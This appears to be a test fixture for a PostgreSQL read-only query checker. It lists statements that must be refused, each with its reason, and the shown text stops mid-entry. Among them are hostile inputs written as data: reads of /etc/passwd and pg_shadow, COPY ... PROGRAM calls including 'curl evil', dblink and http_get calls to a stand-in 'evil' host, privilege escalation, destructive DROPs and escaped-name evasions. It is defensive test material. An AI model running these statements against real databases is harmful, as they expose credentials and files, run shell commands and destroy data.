-- Statements that must never run: `-- reason: what the refusal has to name`, then the statement. `@15` behind it: on a server of that version. Blank lines separate them.

-- empty:
;

-- empty:
-- nothing but a comment

-- several statements:
SELECT 1; SELECT 2

-- several statements:
SELECT 1; DROP TABLE customers

-- unreadable:
SELEKT 1

-- unreadable:
SELECT * FROM

-- unreadable:
SELECT 'open

-- unreadable:
SELECT /* open

-- unreadable:
SELECT 1 WHERE CURRENT OF c

-- not a query: INSERT
INSERT INTO customers VALUES (9, 'Eve')

-- not a query: UPDATE
UPDATE customers SET name = 'x'

-- not a query: DELETE
DELETE FROM customers

-- not a query: MERGE
MERGE INTO customers c USING orders o ON c.id = o.customer_id WHEN MATCHED THEN DELETE

-- not a query: TRUNCATE
TRUNCATE customers

-- not a query: DROP
DROP TABLE customers

-- not a query: CREATE
CREATE TABLE t (a int)

-- not a query: CREATE TABLE AS
CREATE TABLE t AS SELECT 1

-- not a query: VIEW
CREATE VIEW v AS SELECT 1

-- not a query: CREATE FUNCTION
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'

-- not a query: CREATE EXTENSION
CREATE EXTENSION dblink

-- not a query: ALTER TABLE
ALTER TABLE customers ADD x int

-- not a query: ALTER SYSTEM
ALTER SYSTEM SET work_mem = '1GB'

-- not a query: GRANT
GRANT ALL ON customers TO PUBLIC

-- not a query: ALTER ROLE
ALTER ROLE postgres SUPERUSER

-- not a query: COPY
COPY customers TO STDOUT

-- not a query: COPY
COPY (SELECT 1) TO PROGRAM 'id'

-- not a query: EXPLAIN
EXPLAIN ANALYZE DELETE FROM customers

-- not a query: EXPLAIN
EXPLAIN SELECT 1

-- not a query: DO
DO $$ BEGIN PERFORM 1; END $$

-- not a query: CALL
CALL p()

-- not a query: PREPARE
PREPARE s AS SELECT 1

-- not a query: EXECUTE
EXECUTE s

-- not a query: DEALLOCATE
DEALLOCATE ALL

-- not a query: VARIABLE SET
SET ROLE postgres

-- not a query: VARIABLE SET
RESET ROLE

-- not a query: VARIABLE SET
SET LOCAL statement_timeout = 0

-- not a query: VARIABLE SHOW
SHOW ALL

-- not a query: TRANSACTION
COMMIT

-- not a query: TRANSACTION
BEGIN READ WRITE

-- not a query: LOCK
LOCK TABLE customers

-- not a query: LISTEN
LISTEN c

-- not a query: NOTIFY
NOTIFY c, 'x'

-- not a query: DECLARE CURSOR
DECLARE c CURSOR FOR SELECT 1

-- not a query: FETCH
FETCH ALL FROM c

-- not a query: VACUUM
VACUUM customers

-- not a query: CLUSTER
CLUSTER customers

-- not a query: REINDEX
REINDEX TABLE customers

-- not a query: CHECK POINT
CHECKPOINT

-- not a query: DISCARD
DISCARD ALL

-- not a query: LOAD
LOAD 'auto_explain'

-- not a query: REFRESH MAT VIEW
REFRESH MATERIALIZED VIEW v

-- not a query: COMMENT
COMMENT ON TABLE customers IS 'x'

-- not a query: SEC LABEL
SECURITY LABEL ON TABLE customers IS 'x'

-- writes: SELECT INTO
SELECT * INTO copy FROM customers

-- writes: SELECT INTO
SELECT * INTO TEMP copy FROM customers

-- writes: DELETE
WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone

-- writes: INSERT
WITH new AS (INSERT INTO customers VALUES (9) RETURNING id) SELECT id FROM new

-- writes: UPDATE
SELECT * FROM (WITH u AS (UPDATE customers SET name = '' RETURNING id) SELECT id FROM u) s

-- writes: MERGE
WITH m AS (MERGE INTO customers c USING orders o ON true WHEN MATCHED THEN DELETE RETURNING c.id) SELECT * FROM m

-- locks: FOR UPDATE
SELECT * FROM customers FOR UPDATE

-- locks: FOR UPDATE or FOR SHARE
SELECT * FROM customers FOR SHARE SKIP LOCKED

-- locks: lock
SELECT * FROM (SELECT * FROM customers FOR NO KEY UPDATE) s

-- locks: lock
SELECT * FROM customers WHERE id = (SELECT id FROM orders LIMIT 1 FOR KEY SHARE)

-- construct: PARAM REF
SELECT * FROM customers WHERE id = $1

-- construct: SET TO DEFAULT
SELECT DEFAULT

-- construct: XML EXPR
SELECT xmlelement(name foo, 'bar')

-- construct: XML EXPR
SELECT xmlparse(CONTENT '<a/>')

-- construct: XML SERIALIZE
SELECT xmlserialize(CONTENT x AS text) FROM customers

-- construct: RANGE TABLE FUNC
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS c text) x

-- construct: MERGE SUPPORT FUNC
SELECT merge_action()

-- construct: SESSION_USER
SELECT SESSION_USER

-- construct: SQLValue Function in FROM
SELECT * FROM CURRENT_DATE AS d

-- construct: Type Cast in FROM
SELECT x.lo_unlink FROM CAST(16385 AS int) AS x

-- relation: pg_authid
SELECT * FROM pg_authid

-- relation: pg_catalog.pg_shadow
SELECT * FROM pg_catalog.pg_shadow

-- relation: pg_stat_activity
SELECT query FROM pg_stat_activity

-- relation: pg_hba_file_rules
SELECT * FROM "pg_hba_file_rules"

-- relation: pg_settings
SELECT 1 WHERE EXISTS (SELECT FROM pg_settings)

-- relation: pg_class
TABLE pg_class

-- relation: pg_user_mappings
WITH pg_user_mappings AS (SELECT * FROM pg_user_mappings) SELECT * FROM pg_user_mappings

-- relation: pg_toast
SELECT * FROM pg_toast.pg_toast_1255

-- relation: information_schema.tables
SELECT * FROM information_schema.tables

-- relation: names a database
SELECT * FROM shop.public.customers

-- function: pg_read_file
SELECT pg_read_file('/etc/passwd')

-- function: pg_read_binary_file
SELECT encode(pg_catalog.pg_read_binary_file('/etc/passwd'), 'base64')

-- function: pg_ls_dir
SELECT * FROM pg_ls_dir('/')

-- function: pg_stat_file
SELECT (pg_stat_file('/')).*

-- function: lo_import
SELECT lo_import('/etc/passwd')

-- function: lo_export
SELECT lo_export(1, '/tmp/x')

-- function: lo_get
SELECT lo_get(16385)

-- function: lo_from_bytea
SELECT lo_from_bytea(0, 'x')

-- function: pg_sleep
SELECT pg_sleep(60)

-- function: pg_sleep
SELECT "pg_sleep"(60) FROM customers

-- function: pg_sleep_for
SELECT * FROM customers, LATERAL pg_sleep_for('1 hour') s

-- function: pg_sleep
SELECT CASE WHEN true THEN pg_sleep(1) END

-- function: pg_sleep
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM customers

-- function: pg_sleep
SELECT sum(1) OVER (ORDER BY pg_sleep(1)) FROM customers

-- function: pg_sleep
SELECT 1 FROM customers LIMIT (SELECT 1 FROM (SELECT pg_sleep(1)) s)

-- function: pg_sleep
VALUES (pg_sleep(1))

-- function: pg_sleep
SELECT 1 ORDER BY pg_sleep(1)

-- function: pg_sleep
SELECT 1 FROM customers GROUP BY ROLLUP (pg_sleep(1))

-- function: pg_sleep
SELECT JSON_OBJECT('a': pg_sleep(1)::text)

-- function: pg_terminate_backend
SELECT pg_terminate_backend(1)

-- function: pg_cancel_backend
SELECT pg_cancel_backend(pid) FROM (VALUES (1)) v (pid)

-- function: pg_reload_conf
SELECT pg_reload_conf()

-- function: pg_rotate_logfile
SELECT pg_rotate_logfile()

-- function: set_config
SELECT set_config('role', 'postgres', true)

-- function: current_setting
SELECT current_setting('data_directory')

-- function: setseed
SELECT setseed(0.5)

-- function: nextval
SELECT nextval('s')

-- function: setval
SELECT setval('s', 1)

-- function: currval
SELECT currval('s')

-- function: lastval
SELECT lastval()

-- function: pg_advisory_lock
SELECT pg_advisory_lock(1)

-- function: pg_try_advisory_xact_lock
SELECT pg_try_advisory_xact_lock(1)

-- function: txid_current
SELECT txid_current()

-- function: pg_export_snapshot
SELECT pg_export_snapshot()

-- function: pg_notify
SELECT pg_notify('c', 'x')

-- function: pg_logical_emit_message
SELECT pg_logical_emit_message(true, 'a', 'b')

-- function: pg_switch_wal
SELECT pg_switch_wal()

-- function: pg_create_restore_point
SELECT pg_create_restore_point('x')

-- function: pg_promote
SELECT pg_promote()

-- function: pg_stat_reset
SELECT pg_stat_reset()

-- function: pg_restore_relation_stats
SELECT pg_restore_relation_stats('relation', 'customers')

-- function: query_to_xml
SELECT query_to_xml('DELETE FROM customers', true, true, '')

-- function: database_to_xml
SELECT database_to_xml(true, true, '')

-- function: table_to_xml
SELECT table_to_xml('pg_authid', true, true, '')

-- function: cursor_to_xml
SELECT cursor_to_xml('c', 1, true, true, '')

-- function: ts_stat
SELECT * FROM ts_stat('SELECT body FROM bookings')

-- function: ts_rewrite
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, pg_sleep(1)::text::tsquery')

-- function: dblink
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t (a int)

-- function: dblink_exec
SELECT public.dblink_exec('host=evil', 'DROP TABLE x')

-- function: public.upper
SELECT public.upper('a')

-- function: my_function
SELECT my_function(id) FROM customers

-- function: pg_get_viewdef
SELECT pg_get_viewdef('v')

-- function: has_table_privilege
SELECT has_table_privilege('customers', 'SELECT')

-- function: obj_description
SELECT obj_description(1259, 'pg_class')

-- function: inet_server_addr
SELECT inet_server_addr()

-- function: pg_collation_for
SELECT COLLATION FOR (name) FROM customers

-- function: to_regclass
SELECT to_regclass('customers')

-- function: regclass
SELECT regclass('pg_authid')

-- cost: repeat
SELECT repeat('x', 1000000000)

-- cost: array_fill
SELECT array_fill(0, ARRAY[100000000])

-- cost: factorial
SELECT factorial(100000)

-- function: xpath
SELECT xpath('/a', '<a/>')

-- function: xmlexists
SELECT xmlexists('/a' PASSING '<a/>')

-- function: pg_ls_waldir
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_waldir()) AS z

-- function: system_time
SELECT * FROM customers TABLESAMPLE system_time (1000)

-- operator: public.=
SELECT 1 OPERATOR(public.=) 1

-- operator: @#@
SELECT 1 @#@ 2

-- operator: public.<
SELECT id FROM customers ORDER BY id USING OPERATOR(public.<)

-- operator: public.=
SELECT 1 OPERATOR(public.=) ANY (SELECT 1)

-- type: regclass
SELECT 'pg_authid'::regclass

-- type: regproc
SELECT CAST('pg_sleep' AS regproc)

-- type: regrole
SELECT regrole 'postgres'

-- type: xml
SELECT '<a/>'::xml

-- type: oid
SELECT 1::oid

-- type: public.mood
SELECT 'happy'::public.mood

-- type: mood
SELECT 'happy'::mood[]

-- unreadable: %
SELECT * FROM json_to_recordset('[]') AS r (a customers.id%TYPE)

-- type: regclass
SELECT * FROM json_to_recordset('[{"a":"pg_authid"}]') AS r (a regclass)

-- type: regclass
SELECT JSON_VALUE('{"a":"pg_authid"}', '$.a' RETURNING regclass)

-- collation: public.mine
SELECT 'a' COLLATE public.mine

-- field: pg_read_file
SELECT f.pg_read_file FROM unnest(ARRAY['/etc/hostname']) AS f

-- field: lo_unlink
SELECT f.lo_unlink FROM generate_series(1, 2) AS f

-- field: nextval
SELECT unnest.nextval FROM unnest(ARRAY['s'])

-- field: pg_read_file
SELECT (f).pg_read_file FROM unnest(ARRAY['/etc/hostname']) AS f

-- field: upper
SELECT ('abc'::text).upper

-- field: pg_restore_relation_stats
SELECT customers.pg_restore_relation_stats FROM customers

-- field: f.set_config
SELECT f.set_config FROM (SELECT 1 AS set_config) f, LATERAL (SELECT f.set_config FROM generate_series(1, 1) AS f) g

-- field: f.lo_creat
SELECT (SELECT f.lo_creat FROM generate_series(1, 1) f) FROM unnest(ARRAY[1]) AS f (lo_creat)

-- function: pg_sleep
SELECT U&"pg\005fsleep"(1)

-- function: pg_sleep
SELECT PG_Sleep /* spaced */ (1)

-- function: Upper
SELECT "Upper"('a')

-- function: pg_sleep
SELECT 'a' || $$b$$ || pg_sleep(1)::text || $q$ $$ $q$

-- relation: pg_authid
SELECT 1 UNION ALL SELECT 1 FROM pg_authid

-- function: nextval
SELECT ARRAY(SELECT nextval('s'))

-- not a query: ALTER OWNER
ALTER DATABASE shop OWNER TO eve

-- not a query: ALTER TABLE
ALTER TABLE customers OWNER TO eve

-- not a query: RENAME
ALTER TABLE customers RENAME TO c

-- not a query: CREATE ROLE
CREATE ROLE eve SUPERUSER

-- not a query: DROP ROLE
DROP ROLE ana

-- not a query: GRANT ROLE
GRANT postgres TO eve

-- not a query: ALTER DEFAULT PRIVILEGES
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC

-- not a query: REASSIGN OWNED
REASSIGN OWNED BY ana TO eve

-- not a query: DROP OWNED
DROP OWNED BY ana

-- not a query: CREATE SCHEMA
CREATE SCHEMA s

-- not a query: CREATE TRIG
CREATE TRIGGER t BEFORE INSERT ON customers EXECUTE FUNCTION f()

-- not a query: RULE
CREATE RULE r AS ON SELECT TO customers DO INSTEAD SELECT 1

-- not a query: CREATE POLICY
CREATE POLICY p ON customers USING (true)

-- not a query: INDEX
CREATE INDEX ON customers (f(id))

-- not a query: CREATE SEQ
CREATE SEQUENCE s

-- not a query: DEFINE
CREATE AGGREGATE a (int) (SFUNC = f, STYPE = int)

-- not a query: DEFINE
CREATE OPERATOR @#@ (FUNCTION = f, LEFTARG = int, RIGHTARG = int)

-- not a query: CREATE CAST
CREATE CAST (text AS int) WITH FUNCTION f(text)

-- not a query: CREATE DOMAIN
CREATE DOMAIN d AS text

-- not a query: CREATE ENUM
CREATE TYPE e AS ENUM ('a')

-- not a query: CREATE FOREIGN SERVER
CREATE SERVER s FOREIGN DATA WRAPPER file_fdw

-- not a query: CREATE FOREIGN TABLE
CREATE FOREIGN TABLE t (a text) SERVER s OPTIONS (filename '/etc/passwd')

-- not a query: CREATE USER MAPPING
CREATE USER MAPPING FOR PUBLIC SERVER s

-- not a query: IMPORT FOREIGN SCHEMA
IMPORT FOREIGN SCHEMA s FROM SERVER s INTO public

-- not a query: CREATE PUBLICATION
CREATE PUBLICATION p FOR ALL TABLES

-- not a query: CREATE SUBSCRIPTION
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p

-- not a query: CREATE TABLE SPACE
CREATE TABLESPACE t LOCATION '/tmp'

-- not a query: CREATEDB
CREATE DATABASE d

-- not a query: DROPDB
DROP DATABASE shop

-- not a query: CREATE EVENT TRIG
CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()

-- not a query: CREATE EXTENSION
CREATE LANGUAGE plpython3u

-- not a query: CREATE STATS
CREATE STATISTICS s ON id, name FROM customers

-- not a query: CONSTRAINTS SET
SET CONSTRAINTS ALL DEFERRED

-- not a query: UNLISTEN
UNLISTEN *

-- not a query: CLOSE PORTAL
CLOSE ALL

-- not a query: TRANSACTION
SAVEPOINT a

-- not a query: TRANSACTION
PREPARE TRANSACTION 't'

-- not a query: TRANSACTION
ROLLBACK

-- not a query: VARIABLE SET
SET SESSION AUTHORIZATION postgres

-- not a query: VARIABLE SET
SET search_path = evil

-- not a query: VACUUM
ANALYZE customers

-- not a query: COPY
COPY customers FROM '/etc/passwd'

-- not a query: COPY
COPY customers FROM PROGRAM 'curl evil'

-- not a query: EXPLAIN
EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1

-- not a query: CREATE TABLE AS
CREATE MATERIALIZED VIEW v AS SELECT 1

-- not a query: ALTER EXTENSION
ALTER EXTENSION pg_trgm UPDATE

-- not a query: ALTER FUNCTION
ALTER FUNCTION f() SECURITY DEFINER

-- several statements: 
SELECT 1; COMMIT; DROP TABLE customers

-- several statements: 
SELECT 1;; SELECT 2

-- several statements: 
SELECT 'a'; --
DELETE FROM customers

-- several statements: 
VALUES (1); TABLE customers

-- unreadable: 
SELECT pg_sleep(1

-- unreadable: 
SELECT 1 /* a */ */

-- unreadable: 
SELECT $$a

-- unreadable: 
SELECT "a

-- unreadable: 
SELECT 1 FROM customers WHERE

-- unreadable: 
SELECT U&'\00'

-- unreadable: 
SELECT 1x

-- unreadable: 
SELECT 0x

-- unreadable: 
SELECT 1__0

-- writes: DELETE
WITH a AS (SELECT 1), b AS (DELETE FROM customers RETURNING id) SELECT * FROM a

-- writes: UPDATE
SELECT (WITH u AS (UPDATE orders SET status = 'x' RETURNING 1) SELECT 1)

-- writes: INSERT
WITH RECURSIVE r AS (INSERT INTO customers SELECT * FROM customers RETURNING id) TABLE r

-- writes: SELECT INTO
WITH a AS (SELECT 1 AS x) SELECT x INTO UNLOGGED t FROM a

-- writes: SELECT INTO
SELECT 1 INTO t UNION SELECT 2

-- locks: lock
SELECT * FROM customers FOR UPDATE OF customers NOWAIT

-- locks: lock
WITH l AS (SELECT * FROM customers FOR SHARE) SELECT * FROM l

-- locks: lock
SELECT EXISTS (SELECT 1 FROM orders FOR UPDATE)

-- locks: lock
(SELECT id FROM customers FOR UPDATE) UNION ALL SELECT 1

-- construct: XML EXPR
SELECT xmlforest(name, city) FROM customers

-- construct: XML EXPR
SELECT xmlconcat('<a/>', '<b/>')

-- construct: XML EXPR
SELECT xmlpi(name php, 'x')

-- construct: XML EXPR
SELECT '<a/>'::text IS DOCUMENT

-- construct: XML EXPR
SELECT xmlroot('<a/>', version '1.0')

-- construct: XML EXPR
SELECT x FROM customers WHERE xmlelement(name a) IS NOT NULL

-- construct: PARAM REF
SELECT $1

-- construct: PARAM REF
SELECT * FROM customers LIMIT $2

-- construct: SQLValue Function in FROM
SELECT u.lo_unlink FROM CURRENT_USER AS u

-- construct: SESSION_USER
SELECT name FROM customers WHERE name = SESSION_USER

-- construct: SET TO DEFAULT
VALUES (DEFAULT)

-- relation: pg_roles
SELECT * FROM pg_roles

-- relation: pg_user
SELECT * FROM pg_user

-- relation: pg_group
SELECT * FROM pg_group

-- relation: pg_auth_members
SELECT * FROM pg_auth_members

-- relation: pg_database
SELECT * FROM pg_database

-- relation: pg_tablespace
SELECT * FROM pg_tablespace

-- relation: pg_proc
SELECT * FROM pg_proc

-- relation: pg_attribute
SELECT * FROM pg_attribute

-- relation: pg_statistic
SELECT * FROM pg_statistic

-- relation: pg_stats
SELECT * FROM pg_stats

-- relation: pg_largeobject
SELECT * FROM pg_largeobject

-- relation: pg_locks
SELECT * FROM pg_locks

-- relation: pg_prepared_statements
SELECT * FROM pg_prepared_statements

-- relation: pg_cursors
SELECT * FROM pg_cursors

-- relation: pg_file_settings
SELECT * FROM pg_file_settings

-- relation: pg_stat_replication
SELECT * FROM pg_stat_replication

-- relation: pg_stat_ssl
SELECT * FROM pg_stat_ssl

-- relation: pg_config
SELECT * FROM pg_config

-- relation: pg_views
SELECT * FROM pg_views

-- relation: pg_policies
SELECT * FROM pg_policies

-- relation: pg_stat_statements
SELECT * FROM pg_stat_statements

-- relation: pg_subscription
SELECT * FROM pg_subscription

-- relation: pg_replication_slots
SELECT * FROM pg_replication_slots

-- relation: pg_extension
SELECT * FROM pg_extension

-- relation: pg_ident_file_mappings
SELECT * FROM pg_ident_file_mappings

-- relation: pg_catalog.pg_class
SELECT c.relname FROM customers JOIN pg_catalog.pg_class c ON true

-- relation: pg_temp.t
SELECT * FROM pg_temp.t

-- relation: pg_toast_temp_1.x
SELECT * FROM pg_toast_temp_1.x

-- relation: public.pg_stat_statements
SELECT query FROM public.pg_stat_statements

-- relation: information_schema.columns
SELECT * FROM information_schema.columns

-- relation: information_schema.role_table_grants
SELECT 1 WHERE EXISTS (SELECT FROM information_schema.role_table_grants)

-- relation: names a database
TABLE other.pg_catalog.pg_authid

-- relation: pg_authid
WITH a AS (SELECT * FROM pg_authid), pg_authid AS (SELECT 1) SELECT * FROM a

-- relation: pg_authid
SELECT * FROM (WITH pg_authid AS (SELECT 1) SELECT * FROM pg_authid) s, pg_authid

-- relation: pg_authid
WITH x AS (WITH pg_authid AS (SELECT 1) SELECT * FROM pg_authid) SELECT * FROM x, pg_authid

-- relation: pg_catalog.pg_authid
WITH pg_authid AS (SELECT 1) SELECT * FROM pg_catalog.pg_authid

-- relation: pg_shadow
SELECT ARRAY(SELECT passwd FROM pg_shadow)

-- relation: pg_authid
SELECT name FROM customers ORDER BY (SELECT count(*) FROM pg_authid)

-- relation: pg_authid
SELECT * FROM customers TABLESAMPLE BERNOULLI ((SELECT count(*) FROM pg_authid))

-- relation: pg_accounts
SELECT * FROM pg_accounts

-- function: pg_ls_logdir
SELECT pg_ls_logdir()

-- function: pg_ls_waldir
SELECT pg_ls_waldir()

-- function: pg_ls_tmpdir
SELECT pg_ls_tmpdir()

-- function: pg_ls_archive_statusdir
SELECT pg_ls_archive_statusdir()

-- function: pg_ls_logicalsnapdir
SELECT pg_ls_logicalsnapdir()

-- function: pg_current_logfile
SELECT pg_current_logfile()

-- function: pg_read_file
SELECT pg_read_file('a',0,1,true)

-- function: pg_read_binary_file
SELECT pg_read_binary_file('a')

-- function: pg_stat_file
SELECT pg_stat_file('a',true)

-- function: pg_file_write
SELECT pg_file_write('a','b',true)

-- function: pg_file_unlink
SELECT pg_file_unlink('a')

-- function: lo_create
SELECT lo_create(0)

-- function: lo_creat
SELECT lo_creat(-1)

-- function: lo_open
SELECT lo_open(1,393216)

-- function: lo_unlink
SELECT lo_unlink(1)

-- function: lo_put
SELECT lo_put(1,0,'x')

-- function: loread
SELECT loread(0,10)

-- function: lowrite
SELECT lowrite(0,'x')

-- function: lo_truncate
SELECT lo_truncate(0,0)

-- function: lo_close
SELECT lo_close(0)

-- function: pg_backend_pid
SELECT pg_backend_pid()

-- function: pg_blocking_pids
SELECT pg_blocking_pids(1)

-- function: pg_stat_get_activity
SELECT pg_stat_get_activity(NULL)

-- function: pg_stat_get_backend_activity
SELECT pg_stat_get_backend_activity(1)

-- function: inet_client_addr
SELECT inet_client_addr()

-- function: inet_server_port
SELECT inet_server_port()

-- function: pg_postmaster_start_time
SELECT pg_postmaster_start_time()

-- function: pg_conf_load_time
SELECT pg_conf_load_time()

-- function: pg_my_temp_schema
SELECT pg_my_temp_schema()

-- function: pg_safe_snapshot_blocking_pids
SELECT pg_safe_snapshot_blocking_pids(1)

-- function: pg_show_all_settings
SELECT pg_show_all_settings()

-- function: pg_hba_file_rules
SELECT pg_hba_file_rules()

-- function: pg_show_all_file_settings
SELECT pg_show_all_file_settings()

-- function: pg_config
SELECT pg_config()

-- function: pg_control_system
SELECT pg_control_system()

-- function: pg_settings_get_flags
SELECT pg_settings_get_flags('x')

-- function: set_config
SELECT set_config('search_path','evil',false)

-- function: pg_db_role_setting
SELECT pg_db_role_setting()

-- function: has_schema_privilege
SELECT has_schema_privilege('public','CREATE')

-- function: has_column_privilege
SELECT has_column_privilege('customers','id','SELECT')

-- function: has_function_privilege
SELECT has_function_privilege('f()','EXECUTE')

-- function: pg_has_role
SELECT pg_has_role('postgres','MEMBER')

-- function: has_any_column_privilege
SELECT has_any_column_privilege('customers','SELECT')

-- function: row_security_active
SELECT row_security_active('customers')

-- function: pg_get_functiondef
SELECT pg_get_functiondef(1)

-- function: pg_get_constraintdef
SELECT pg_get_constraintdef(1)

-- function: pg_get_indexdef
SELECT pg_get_indexdef(1)

-- function: pg_get_expr
SELECT pg_get_expr('',1)

-- function: pg_get_userbyid
SELECT pg_get_userbyid(10)

-- function: pg_get_ruledef
SELECT pg_get_ruledef(1)

-- function: pg_get_triggerdef
SELECT pg_get_triggerdef(1)

-- function: col_description
SELECT col_description(1,1)

-- function: shobj_description
SELECT shobj_description(1,'x')

-- function: format_type
SELECT format_type(23,NULL)

-- function: pg_describe_object
SELECT pg_describe_object(1,1,0)

-- function: pg_identify_object
SELECT pg_identify_object(1,1,0)

-- function: pg_table_is_visible
SELECT pg_table_is_visible(1)

-- function: pg_relation_size
SELECT pg_relation_size('customers')

-- function: pg_total_relation_size
SELECT pg_total_relation_size('customers')

-- function: pg_table_size
SELECT pg_table_size('customers')

-- function: pg_database_size
SELECT pg_database_size('shop')

-- function: pg_tablespace_size
SELECT pg_tablespace_size('x')

-- function: pg_relation_filepath
SELECT pg_relation_filepath('customers')

-- function: pg_tablespace_location
SELECT pg_tablespace_location(1)

-- function: pg_partition_tree
SELECT pg_partition_tree('customers')

-- function: to_regproc
SELECT to_regproc('f')

-- function: to_regtype
SELECT to_regtype('t')

-- function: to_regrole
SELECT to_regrole('r')

-- function: to_regnamespace
SELECT to_regnamespace('n')

-- function: to_regoperator
SELECT to_regoperator('=(int,int)')

-- function: pg_advisory_lock_shared
SELECT pg_advisory_lock_shared(1)

-- function: pg_try_advisory_lock
SELECT pg_try_advisory_lock(1)

-- function: pg_advisory_unlock_all
SELECT pg_advisory_unlock_all()

-- function: pg_advisory_xact_lock
SELECT pg_advisory_xact_lock(1,2)

-- function: txid_current_snapshot
SELECT txid_current_snapshot()

-- function: pg_current_xact_id
SELECT pg_current_xact_id()

-- function: pg_current_snapshot
SELECT pg_current_snapshot()

-- function: pg_xact_status
SELECT pg_xact_status('1')

-- function: txid_status
SELECT txid_status(1)

-- function: pg_last_committed_xact
SELECT pg_last_committed_xact()

-- function: pg_create_physical_replication_slot
SELECT pg_create_physical_replication_slot('s')

-- function: pg_create_logical_replication_slot
SELECT pg_create_logical_replication_slot('s','test_decoding')

-- function: pg_drop_replication_slot
SELECT pg_drop_replication_slot('s')

-- function: pg_logical_slot_get_changes
SELECT pg_logical_slot_get_changes('s',NULL,NULL)

-- function: pg_logical_slot_peek_changes
SELECT pg_logical_slot_peek_changes('s',NULL,NULL)

-- function: pg_replication_origin_create
SELECT pg_replication_origin_create('o')

-- function: pg_replication_slot_advance
SELECT pg_replication_slot_advance('s','0/0')

-- function: pg_backup_start
SELECT pg_backup_start('x')

-- function: pg_backup_stop
SELECT pg_backup_stop()

-- function: pg_current_wal_lsn
SELECT pg_current_wal_lsn()

-- function: pg_walfile_name
SELECT pg_walfile_name('0/0')

-- function: pg_wal_replay_pause
SELECT pg_wal_replay_pause()

-- function: pg_log_standby_snapshot
SELECT pg_log_standby_snapshot()

-- function: pg_log_backend_memory_contexts
SELECT pg_log_backend_memory_contexts(1)

-- function: pg_stat_reset_shared
SELECT pg_stat_reset_shared('bgwriter')

-- function: pg_stat_reset_single_table_counters
SELECT pg_stat_reset_single_table_counters(1)

-- function: pg_stat_clear_snapshot
SELECT pg_stat_clear_snapshot()

-- function: pg_stat_force_next_flush
SELECT pg_stat_force_next_flush()

-- function: pg_clear_relation_stats
SELECT pg_clear_relation_stats('public','customers')

-- function: pg_stat_statements_reset
SELECT pg_stat_statements_reset()

-- function: brin_summarize_new_values
SELECT brin_summarize_new_values('i')

-- function: gin_clean_pending_list
SELECT gin_clean_pending_list('i')

-- function: pg_prewarm
SELECT pg_prewarm('customers')

-- function: pg_nextoid
SELECT pg_nextoid('c','a','i')

-- function: pg_import_system_collations
SELECT pg_import_system_collations('x')

-- function: pg_extension_config_dump
SELECT pg_extension_config_dump('c','x')

-- function: binary_upgrade_set_next_pg_type_oid
SELECT binary_upgrade_set_next_pg_type_oid(1)

-- function: pg_sync_replication_slots
SELECT pg_sync_replication_slots()

-- function: schema_to_xml
SELECT schema_to_xml('public',true,true,'')

-- function: table_to_xml_and_xmlschema
SELECT table_to_xml_and_xmlschema('t',true,true,'')

-- function: query_to_xmlschema
SELECT query_to_xmlschema('SELECT 1',true,true,'')

-- function: database_to_xml_and_xmlschema
SELECT database_to_xml_and_xmlschema(true,true,'')

-- function: xpath_exists
SELECT xpath_exists('/a','<a/>')

-- function: xml_is_well_formed
SELECT xml_is_well_formed('<a/>')

-- function: xmlcomment
SELECT xmlcomment('a')

-- function: xmltext
SELECT xmltext('a')

-- function: crosstab
SELECT crosstab('SELECT 1')

-- function: connectby
SELECT connectby('t','a','b','1',0)

-- function: normal_rand
SELECT normal_rand(10,0,1)

-- function: xpath_table
SELECT xpath_table('a','b','c','d','e')

-- function: dblink_connect
SELECT dblink_connect('host=evil')

-- function: dblink_send_query
SELECT dblink_send_query('c','SELECT 1')

-- function: dblink_get_result
SELECT dblink_get_result('c')

-- function: postgres_fdw_get_connections
SELECT postgres_fdw_get_connections()

-- function: postgres_fdw_disconnect_all
SELECT postgres_fdw_disconnect_all()

-- function: get_raw_page
SELECT get_raw_page('customers',0)

-- function: pgstattuple
SELECT pgstattuple('customers')

-- function: pg_buffercache_evict
SELECT pg_buffercache_evict(1)

-- function: heap_page_items
SELECT heap_page_items('x')

-- function: bt_metap
SELECT bt_metap('i')

-- function: pgrowlocks
SELECT pgrowlocks('customers')

-- function: pg_freespace
SELECT pg_freespace('customers')

-- function: pg_visibility
SELECT pg_visibility('customers')

-- function: verify_heapam
SELECT verify_heapam('customers')

-- function: crypt
SELECT crypt('a','b')

-- function: gen_salt
SELECT gen_salt('bf')

-- function: pgp_sym_decrypt
SELECT pgp_sym_decrypt('a','b')

-- function: gen_random_bytes
SELECT gen_random_bytes(10)

-- function: http_get
SELECT http_get('http://evil')

-- function: aws_s3.query_export_to_s3
SELECT aws_s3.query_export_to_s3('SELECT 1','x')

-- function: cron.schedule
SELECT cron.schedule('* * * * *','DROP TABLE x')

-- function: ts_debug
SELECT ts_debug('a')

-- function: ts_lexize
SELECT ts_lexize('simple','a')

-- function: ts_parse
SELECT ts_parse('default','a')

-- function: ts_token_type
SELECT ts_token_type('default')

-- function: get_current_ts_config
SELECT get_current_ts_config()

-- function: currval
SELECT currval('s'::text)

-- function: pg_sequence_last_value
SELECT pg_sequence_last_value('s')

-- function: pg_get_serial_sequence
SELECT pg_get_serial_sequence('customers','id')

-- function: pg_sequence_parameters
SELECT pg_sequence_parameters(1)

-- function: pg_sleep_until
SELECT pg_sleep_until('tomorrow')

-- function: pg_isolation_test_session_is_blocked
SELECT pg_isolation_test_session_is_blocked(1,'{1}')

-- function: pg_listening_channels
SELECT pg_listening_channels()

-- function: pg_notification_queue_usage
SELECT pg_notification_queue_usage()

-- function: pg_trigger_depth
SELECT pg_trigger_depth()

-- function: pg_event_trigger_ddl_commands
SELECT pg_event_trigger_ddl_commands()

-- function: suppress_redundant_updates_trigger
SELECT suppress_redundant_updates_trigger()

-- function: ri_fkey_check_ins
SELECT RI_FKey_check_ins()

-- function: array_in
SELECT array_in('x',1,1)

-- function: int4in
SELECT int4in('1')

-- function: record_in
SELECT record_in('x',1,1)

-- function: anyarray_in
SELECT anyarray_in('x')

-- function: textin
SELECT textin('x')

-- function: domain_in
